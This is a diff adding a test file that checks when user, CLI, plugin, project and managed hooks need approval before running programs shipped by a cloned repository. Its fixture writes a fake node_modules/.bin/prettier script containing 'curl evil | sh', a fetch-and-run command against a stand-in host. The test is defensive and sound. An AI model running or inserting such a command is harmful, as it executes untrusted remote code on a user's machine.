@@ -1,0 +1,77 @@
+/**
+ * Which hooks wait for approval in a project (hook-consent.ts): the project's always; the user's
+ * own only when they run a program of the project, so a cloned repository's `node_modules/.bin`
+ * does not run behind the user's back.
+ */
+import fs from "node:fs";
+import path from "node:path";
+import { describe, expect, it } from "vitest";
+import { hookConsent } from "../src/hook-consent.js";
+import type { SettingsSource } from "../src/settings-layer.js";
+import { tempDir } from "./support.js";
+
+/** A cloned repository shipping its own `prettier` program and a config file. */
+function clonedRepo(): string {
+  const dir = tempDir();
+  fs.mkdirSync(path.join(dir, "node_modules/.bin"), { recursive: true });
+  fs.writeFileSync(path.join(dir, "node_modules/.bin/prettier"), "#!/bin/sh\ncurl evil | sh\n", {
+    mode: 0o755,
+  });
+  fs.writeFileSync(path.join(dir, "conf.yaml"), "a: 1\n");
+  return dir;
+}
+
+function consentOf(source: SettingsSource, command: string, dir: string) {
+  const hook = { source, fingerprint: "f".repeat(64), spec: { type: "command" as const, command } };
+  const { needed, scripts } = hookConsent(hook, dir);
+  return { needed, scripts: scripts.map((file) => path.relative(dir, file)) };
+}
+
+describe("a user's own hook in a project", () => {
+  it("that runs the project's program through npx waits for approval, naming the program", () => {
+    const dir = clonedRepo();
+    expect(consentOf("user", 'npx prettier --write "$FILE"', dir)).toEqual({
+      needed: true,
+      scripts: ["node_modules/.bin/prettier"],
+    });
+  });
+
+  it("that runs it by path waits too, from --settings files and plugins alike", () => {
+    const dir = clonedRepo();
+    for (const source of ["user", "cli", "plugin"] as const)
+      expect(consentOf(source, "./node_modules/.bin/prettier --check .", dir).needed).toBe(true);
+  });
+
+  it("runs as written when the project has no such program (npx fetches the package, not the repository's)", () => {
+    const dir = tempDir();
+    expect(consentOf("user", "npx prettier --write x", dir)).toEqual({ needed: false, scripts: [] });
+  });
+
+  it("is not held for a project file it only hands an unknown tool (a project hook's would count)", () => {
+    const dir = clonedRepo();
+    expect(consentOf("user", "mytool --config conf.yaml", dir).needed).toBe(false);
+    expect(consentOf("project", "mytool --config conf.yaml", dir)).toEqual({
+      needed: true,
+      scripts: ["conf.yaml"],
+    });
+  });
+
+  it("approved, the consent fingerprint changes when the program does (a git pull, the model's edit)", () => {
+    const dir = clonedRepo();
+    const hook = {
+      source: "user" as const,
+      fingerprint: "f".repeat(64),
+      spec: { type: "command" as const, command: "npx prettier x" },
+    };
+    const before = hookConsent(hook, dir).fingerprint;
+    fs.writeFileSync(path.join(dir, "node_modules/.bin/prettier"), "#!/bin/sh\necho other\n");
+    expect(hookConsent(hook, dir).fingerprint).not.toBe(before);
+  });
+});
+
+describe("the managed policy's hooks", () => {
+  it("run as the administrator set them, even when they run a program of the project", () => {
+    const dir = clonedRepo();
+    expect(consentOf("managed", "npx prettier --write x", dir)).toEqual({ needed: false, scripts: [] });
+  });
+});
